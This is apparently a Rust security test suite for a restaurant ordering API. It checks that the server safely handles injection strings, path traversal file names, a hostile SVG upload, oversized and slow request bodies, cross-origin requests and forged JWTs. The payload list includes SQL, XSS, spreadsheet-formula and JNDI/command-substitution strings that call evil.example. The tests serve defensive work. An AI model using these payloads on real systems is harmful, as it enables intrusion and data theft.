//! What a hostile guest in the Wi-Fi, or a page on another site, may try.

use std::time::Duration;

use image::{DynamicImage, ImageFormat, RgbImage};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::timeout;

use crate::support::{Api, MANAGER, WAITER, device};

/// The content type of [`form`].
pub(crate) const FORM: &str = "multipart/form-data; boundary=BETWEEN";
const SOON: Duration = Duration::from_secs(10);

/// A picture that somebody may upload.
pub(crate) fn picture() -> Vec<u8> {
    let mut bytes = std::io::Cursor::new(Vec::new());
    DynamicImage::ImageRgb8(RgbImage::new(900, 300)).write_to(&mut bytes, ImageFormat::Png).unwrap();
    bytes.into_inner()
}

/// A form with these parts: name, name of the file, content.
pub(crate) fn form(parts: &[(&str, Option<&str>, &[u8])]) -> Vec<u8> {
    let mut body = Vec::new();
    for (name, file, content) in parts {
        let file = file.map_or_else(String::new, |file| format!("; filename=\"{file}\""));
        let head = format!("--BETWEEN\r\ncontent-disposition: form-data; name=\"{name}\"{file}\r\n\r\n");
        body.extend_from_slice(head.as_bytes());
        body.extend_from_slice(content);
        body.extend_from_slice(b"\r\n");
    }
    body.extend_from_slice(b"--BETWEEN--\r\n");
    body
}

/// Texts that would be something else than text in SQL, HTML, a shell or a spreadsheet.
pub(crate) const TEXTS: [&str; 6] = [
    "'; DROP TABLE users; --",
    "\" OR \"1\"=\"1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "=HYPERLINK(\"http://evil.example\")",
    "${jndi:ldap://evil.example} `id` $(id)",
];

#[tokio::test]
async fn sql_and_html_in_a_text_is_a_text() {
    let api = Api::start().await;
    let manager = api.bearer(MANAGER, device(1)).await;
    let order = api.ask("POST", "/api/orders", Some(&json!({ "table": 5 })), &manager).await.expect(201);
    let order = order["order"]["id"].as_str().unwrap().to_owned();
    for (number, text) in (0_u32..).zip(TEXTS) {
        let ask =
            async |path: &str, body: Value| api.ask("POST", path, Some(&body), &manager).await.expect(201);
        let product = ask(
            "/api/products",
            json!({ "name": text, "category": 1, "price_minor": 100, "route": "kitchen" }),
        )
        .await;
        assert_eq!(product["name"], text);
        assert_eq!(ask("/api/products/categories", json!({ "name": text })).await["name"], text);
        assert_eq!(ask("/api/tables/groups", json!({ "name": text })).await["name"], text);
        assert_eq!(ask("/api/tables", json!({ "label": text, "group": 1 })).await["label"], text);
        let modifiers = json!([{ "name": text }]);
        assert_eq!(
            ask("/api/products/groups", json!({ "name": text, "modifiers": modifiers })).await["name"],
            text
        );
        let somebody = json!({ "name": text, "username": format!("user{number}"), "pin": "1234" });
        assert_eq!(ask("/api/waiters", somebody).await["name"], text);
        let items = json!({ "items": [{ "product": product["id"], "note": text }] });
        let whole = ask(&format!("/api/orders/{order}/items"), items).await;
        assert_eq!(whole["order"]["lines"][number as usize]["item"]["note"], text);
        let form = json!({ "username": text, "pin": text, "device": device(7 + u128::from(number)) });
        api.post("/api/auth/login", &form, &[]).await.assert_problem(401, "wrong_login");
        let found = reqwest::Url::parse_with_params("http://x/api/products", [("search", text)]).unwrap();
        let path = format!("/api/products?{}", found.query().unwrap());
        assert_eq!(api.ask("GET", &path, None, &manager).await.expect(200)[0]["name"], text);
    }
    let answer = api.get("/api/catalog", &[("authorization", &manager)]).await;
    assert_eq!(answer.header("content-type"), "application/json");
    assert_eq!(answer.header("x-content-type-options"), "nosniff");
    assert_eq!(
        api.ask("GET", "/api/waiters", None, &manager).await.expect(200).as_array().unwrap().len(),
        11
    );
}

#[tokio::test]
async fn no_path_of_a_client_is_ever_a_path() {
    let api = Api::start().await;
    let manager = api.bearer(MANAGER, device(1)).await;
    let headers = [("authorization", manager.as_str()), ("content-type", FORM)];
    let login = [headers[0]];
    for name in ["../../etc/passwd", "..\\..\\comanda.db", "a%00b.png", "/etc/cron.d/x", "x.svg"] {
        let upload = form(&[("image", Some(name), &picture())]);
        let product = api.send("POST", "/api/products/101/image", upload, &headers).await.expect(200);
        let image = product["image"].as_str().unwrap();
        assert!(image.len() == 32 && image.bytes().all(|byte| byte.is_ascii_hexdigit()), "{image}");
        let shown = api.get(&format!("/api/images/{image}"), &login).await;
        assert_eq!((shown.status.as_u16(), shown.header("content-type")), (200, "image/jpeg"));
        assert!(shown.body.starts_with(&[0xff, 0xd8, 0xff]), "it was made anew");
    }
    for path in ["..%2f..%2fcomanda.db", "%2e%2e", "..", "comanda.db", "%00", "' OR 1=1 --"] {
        let status = api.get(&format!("/api/images/{path}"), &login).await.status.as_u16();
        assert!(matches!(status, 400 | 404), "{path}: {status}");
    }
    let files: Vec<_> =
        std::fs::read_dir(api.house.data()).unwrap().map(|file| file.unwrap().file_name()).collect();
    assert!(files.iter().all(|file| !file.to_string_lossy().contains("png")), "{files:?}");
}

#[tokio::test]
async fn what_is_no_picture_is_not_taken_and_an_old_one_is_thrown_away() {
    let api = Api::start().await;
    let manager = api.bearer(MANAGER, device(1)).await;
    let headers = [("authorization", manager.as_str()), ("content-type", FORM)];
    for content in
        [&b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"[..], b"GIF89a", b"", b"MZ"]
    {
        let upload = form(&[("image", Some("a.png"), content)]);
        let answer = api.send("POST", "/api/products/101/image", upload, &headers).await;
        answer.assert_problem(422, "no_picture");
    }
    let nothing = form(&[("file", Some("a.png"), &picture())]);
    api.send("POST", "/api/products/101/image", nothing, &headers).await.assert_problem(422, "malformed");
    let product =
        json!({ "name": "Ψωμί", "category": 1, "price_minor": 100, "route": "kitchen" }).to_string();
    let both = form(&[("product", None, product.as_bytes()), ("image", Some("a.png"), &picture())]);
    let made = api.send("POST", "/api/products", both, &headers).await.expect(201);
    let image = format!("/api/images/{}", made["image"].as_str().unwrap());
    assert_eq!(api.get(&image, &[headers[0]]).await.status, 200);
    let path = format!("/api/products/{}/image", made["id"]);
    assert!(api.ask("DELETE", &path, None, &manager).await.expect(200)["image"].is_null());
    assert_eq!(api.get(&image, &[headers[0]]).await.status, 404);
}

/// Sends the head of a request that promises a body of a gigabyte, then as much of it as the node takes.
async fn send_a_gigabyte(api: &Api, path: &str, bearer: &str, kind: &str) -> String {
    let mut stream = TcpStream::connect(api.house.addr()).await.unwrap();
    let head = format!(
        "POST {path} HTTP/1.1\r\nhost: {}\r\nauthorization: {bearer}\r\ncontent-type: {kind}\r\ncontent-length: 1000000000\r\n\r\n",
        api.house.addr()
    );
    stream.write_all(head.as_bytes()).await.unwrap();
    let (mut reading, mut writing) = stream.split();
    let write = async {
        let piece = vec![b'x'; 64 * 1024];
        while writing.write_all(&piece).await.is_ok() {}
        std::future::pending::<()>().await;
    };
    let mut answer = vec![0; 4096];
    let read = async {
        let length = reading.read(&mut answer).await.unwrap_or(0);
        String::from_utf8_lossy(&answer[..length]).into_owned()
    };
    tokio::select! {
        () = write => unreachable!("it never ends"),
        answer = timeout(SOON, read) => answer.expect("an answer in time"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_gigabyte_is_refused_before_it_is_read() {
    let api = Api::start().await;
    let manager = api.bearer(MANAGER, device(1)).await;
    for (path, kind) in [
        ("/api/auth/login", "application/json"),
        ("/api/products", "application/json"),
        ("/api/menu/import", "application/json"),
        ("/api/menu/import.csv", "text/csv"),
        ("/api/products/101/image", FORM),
    ] {
        let answer = send_a_gigabyte(&api, path, &manager, kind).await;
        let status = answer.split(' ').nth(1).unwrap_or("");
        assert_eq!(status, "413", "{path}: {answer}");
    }
    let answer = send_a_gigabyte(&api, "/api/products", "Bearer x.y.z", "application/json").await;
    assert!(answer.starts_with("HTTP/1.1 401"), "{answer}");
    assert!(api.house.rss_kb().unwrap() < 200_000, "{:?}", api.house.rss_kb());
    api.get("/api/system/health", &[]).await.expect(200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn who_sends_a_gigabyte_slowly_and_reads_late_hears_that_it_is_too_much() {
    let api = Api::start().await;
    let manager = api.bearer(MANAGER, device(1)).await;
    for path in ["/api/menu/import", "/api/license"] {
        let mut stream = TcpStream::connect(api.house.addr()).await.unwrap();
        let head = format!(
            "POST {path} HTTP/1.1\r\nhost: {}\r\nauthorization: {manager}\r\ncontent-type: application/json\r\ncontent-length: 1000000000\r\n\r\n",
            api.house.addr()
        );
        stream.write_all(head.as_bytes()).await.unwrap();
        for _ in 0..30 {
            stream.write_all(&vec![b' '; 256 * 1024]).await.unwrap();
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        let mut answer = Vec::new();
        timeout(SOON, stream.read_to_end(&mut answer)).await.unwrap().unwrap();
        let answer = String::from_utf8_lossy(&answer).into_owned();
        assert!(answer.starts_with("HTTP/1.1 413"), "{path}: {answer}");
        assert!(answer.contains("application/problem+json") && answer.ends_with('}'), "{path}: {answer}");
    }
    assert!(api.house.rss_kb().unwrap() < 200_000, "{:?}", api.house.rss_kb());
}

#[tokio::test]
async fn a_page_of_another_site_changes_nothing_and_hears_nothing() {
    let api = Api::start().await;
    let login = api.log_in(MANAGER.username, MANAGER.pin, device(1)).await;
    let cookie = login.header("set-cookie").split(';').next().unwrap().to_owned();
    let own = api.url("");
    let body = json!({ "name": "Ταράτσα" });
    for foreign in [
        ("origin", "http://evil.example"),
        ("origin", "null"),
        ("sec-fetch-site", "cross-site"),
        ("sec-fetch-site", "same-site"),
    ] {
        let headers = [("cookie", cookie.as_str()), foreign];
        api.post("/api/tables/groups", &body, &headers).await.assert_problem(403, "foreign_origin");
        let form = json!({ "username": MANAGER.username, "pin": MANAGER.pin, "device": device(1) });
        api.post("/api/auth/login", &form, &[foreign]).await.assert_problem(403, "foreign_origin");
        let upgrade = [
            ("cookie", cookie.as_str()),
            ("connection", "upgrade"),
            ("upgrade", "websocket"),
            ("sec-websocket-version", "13"),
            ("sec-websocket-key", "AAAAAAAAAAAAAAAAAAAAAA=="),
            foreign,
        ];
        for path in ["/api/events", "/api/sync"] {
            api.get(path, &upgrade).await.assert_problem(403, "foreign_origin");
        }
    }
    // A form that needs no script is no JSON.
    let plain = [("cookie", cookie.as_str()), ("content-type", "text/plain")];
    api.send("POST", "/api/tables/groups", body.to_string(), &plain).await.assert_problem(415, "not_json");
    let ours = [("cookie", cookie.as_str()), ("origin", own.as_str()), ("sec-fetch-site", "same-origin")];
    api.post("/api/tables/groups", &body, &ours).await.expect(201);
}

#[tokio::test]
async fn a_token_of_another_algorithm_is_worth_nothing() {
    use base64::Engine;
    use base64::engine::general_purpose::URL_SAFE_NO_PAD;
    let api = Api::start().await;
    let bearer = api.bearer(WAITER, device(1)).await;
    let (signed, signature) = bearer.strip_prefix("Bearer ").unwrap().rsplit_once('.').unwrap();
    let claims = signed.split('.').nth(1).unwrap();
    for header in [
        r#"{"alg":"none","typ":"JWT"}"#,
        r#"{"alg":"NONE"}"#,
        r#"{"alg":"HS512","typ":"JWT"}"#,
        r#"{"alg":"RS256","typ":"JWT"}"#,
        r#"{"typ":"JWT","alg":"HS256"}"#,
        r#"{"alg":"HS256","typ":"JWT","kid":"../../dev/null"}"#,
    ] {
        let header = URL_SAFE_NO_PAD.encode(header);
        for signature in [signature, "", "AAAA"] {
            let forged = format!("Bearer {header}.{claims}.{signature}");
            api.ask("GET", "/api/auth/me", None, &forged).await.assert_problem(401, "not_logged_in");
        }
    }
    api.ask("GET", "/api/auth/me", None, &bearer).await.expect(200);
}
